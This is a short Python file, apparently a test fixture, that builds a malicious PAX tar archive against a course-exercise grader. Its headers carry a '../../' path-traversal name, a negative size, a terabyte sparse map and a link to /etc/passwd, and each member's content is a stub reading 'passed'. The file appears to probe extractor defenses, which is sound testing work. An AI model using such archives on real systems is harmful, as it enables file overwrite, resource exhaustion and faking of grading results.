"""A tar whose pax headers give the stub another path, a negative size and a sparse map of a terabyte."""

import io
import tarfile

EXERCISE = "scaling_ex01"
FOLDER = "modules/05-scaling-benchmarks/ex01-single-gpu-baseline"


def plant(entry, course):
    with tarfile.open(f"{entry}.tar", "w", format=tarfile.PAX_FORMAT) as archive:
        for headers in (
            {"path": f"../../{FOLDER}/single_gpu_baseline.py"},
            {"size": "-1"},
            {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.realsize": str(1 << 40)},
            {"linkpath": "/etc/passwd", "hdrcharset": "BINARY"},
        ):
            member = tarfile.TarInfo(f"{FOLDER}/single_gpu_baseline.py")
            member.pax_headers, member.size = headers, 6
            archive.addfile(member, io.BytesIO(b"passed"))
